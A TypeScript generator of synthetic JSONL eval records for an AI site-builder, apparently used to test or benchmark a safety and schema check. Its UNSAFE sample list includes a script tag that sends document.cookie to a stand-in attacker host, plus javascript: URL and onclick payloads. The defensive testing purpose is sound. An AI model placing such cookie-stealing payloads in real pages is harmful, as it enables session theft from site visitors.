import { once } from 'node:events';
import { createWriteStream } from 'node:fs';

/** What the generated records look like; printed with the results. */
export interface RecordMix {
  records: number;
  /** Share of records that carry a sitecraft output (the rest: outcomes and routing only). */
  outputShare: number;
  /** Sections per generated site. */
  sections: number;
  /** Share of outputs with one unsafe section (script, onclick, javascript: URL, non-Tailwind class). */
  unsafeShare: number;
}

const WORDS = (
  'bakery fresh bread coffee morning local organic garden studio design craft modern simple ' +
  'quality service team friendly fast secure cloud launch growth clients trusted award family ' +
  'kitchen yoga fitness travel adventure photo gallery events music community learn build'
).split(' ');
const COLORS = [
  'slate',
  'gray',
  'indigo',
  'blue',
  'emerald',
  'rose',
  'amber',
  'violet',
  'sky',
  'teal',
];
const SHADES = ['50', '100', '200', '500', '600', '700', '800', '900'];
const PROVIDERS = ['openai', 'custom'];
const STRATEGIES = ['weighted', 'fallback', 'single_provider'];
const UNSAFE = [
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '<button class="rounded px-4 py-2" onclick="alert(1)">Claim</button>',
  '<a class="underline" href="javascript:alert(1)">Details</a>',
  '<div class="card-shadow p-4">Not Tailwind</div>',
];

/** A small deterministic PRNG (mulberry32), so every run generates the same file. */
function random(seed: number) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/**
 * Writes `mix.records` eval records as JSONL: routing fields and the product outcomes on every
 * record (some null, as in real exports), and for `outputShare` of them a generated site in the
 * style of genloop's own site recipe (HTML sections with Tailwind classes), with neither
 * schema_valid nor safety_compliant given, so both are computed (the expensive path).
 */
export async function writeRecords(
  path: string,
  mix: RecordMix,
): Promise<{ bytes: number; outputBytes: number }> {
  const next = random(42);
  const pick = <T>(items: readonly T[]) => items[Math.floor(next() * items.length)]!;
  const words = (count: number) => Array.from({ length: count }, () => pick(WORDS)).join(' ');
  const color = () => `${pick(COLORS)}-${pick(SHADES)}`;
  const section = (index: number) => {
    const kind = index % 3;
    if (kind === 0)
      return `<section class="bg-${color()} px-6 py-${pick(['16', '20', '24'])} text-center text-white"><h1 class="text-4xl font-bold tracking-tight sm:text-6xl">${words(3)}</h1><p class="mx-auto mt-6 max-w-2xl text-lg text-${color()}">${words(14)}</p><a href="#contact" class="mt-10 inline-block rounded-md bg-white px-6 py-3 font-semibold text-${color()} hover:bg-${color()}">${words(2)}</a></section>`;
    if (kind === 1)
      return `<section class="px-6 py-20"><h2 class="text-center text-3xl font-bold text-${color()}">${words(3)}</h2><div class="mx-auto mt-12 grid max-w-5xl gap-8 sm:grid-cols-3"><div class="rounded-xl border border-${color()} p-6 shadow-sm"><h3 class="text-lg font-semibold">${words(2)}</h3><p class="mt-2 text-${color()}">${words(10)}</p></div><div class="rounded-xl border p-6 shadow-sm"><h3 class="text-lg font-semibold">${words(2)}</h3><p class="mt-2 text-slate-600">${words(10)}</p></div></div></section>`;
    return `<footer class="border-t border-${color()} px-6 py-10 text-center text-sm text-${color()}">© ${words(2)}. <a href="https://example.com/${pick(WORDS)}" class="underline hover:text-${color()}">${words(1)}</a></footer>`;
  };

  const stream = createWriteStream(path);
  let bytes = 0;
  let outputBytes = 0;
  let outputs = 0;
  let buffer = '';
  const outcome = (pTrue: number, pNull: number) => {
    const roll = next();
    return roll < pNull ? null : roll < pNull + (1 - pNull) * pTrue;
  };
  for (let index = 0; index < mix.records; index++) {
    const record: Record<string, unknown> = {
      id: `gen-${index.toString(36).padStart(8, '0')}`,
      created_at: new Date(Date.UTC(2026, 1, 15) + index * 80).toISOString(),
      schema_variant: 'sitecraft',
      patch_apply_success: outcome(0.9, 0.7),
      edit_after_generate: outcome(0.3, 0.4),
      publish_conversion: outcome(0.4, 0.2),
      fallback_used: next() < 0.03,
      latency_ms: Math.round(400 + next() * 2000 + (next() < 0.05 ? next() * 8000 : 0)),
      requested_provider: next() < 0.5 ? null : pick(PROVIDERS),
      selected_provider: pick(PROVIDERS),
      route_strategy: pick(STRATEGIES),
    };
    if (next() < mix.outputShare) {
      const sections = Array.from({ length: mix.sections }, (_, position) => ({
        id: `section-${position}`,
        type: position === 0 ? 'hero' : position === mix.sections - 1 ? 'footer' : 'features',
        html: section(position),
      }));
      if (next() < mix.unsafeShare) sections[0]!.html += pick(UNSAFE);
      const output = { title: words(2), description: words(8), sections };
      record.output = output;
      outputs++;
      outputBytes += JSON.stringify(output).length;
    }
    const line = `${JSON.stringify(record)}\n`;
    bytes += Buffer.byteLength(line);
    buffer += line;
    if (buffer.length > 1 << 20) {
      if (!stream.write(buffer)) await once(stream, 'drain');
      buffer = '';
    }
  }
  stream.write(buffer);
  stream.end();
  await once(stream, 'finish');
  return { bytes, outputBytes: outputs === 0 ? 0 : Math.round(outputBytes / outputs) };
}
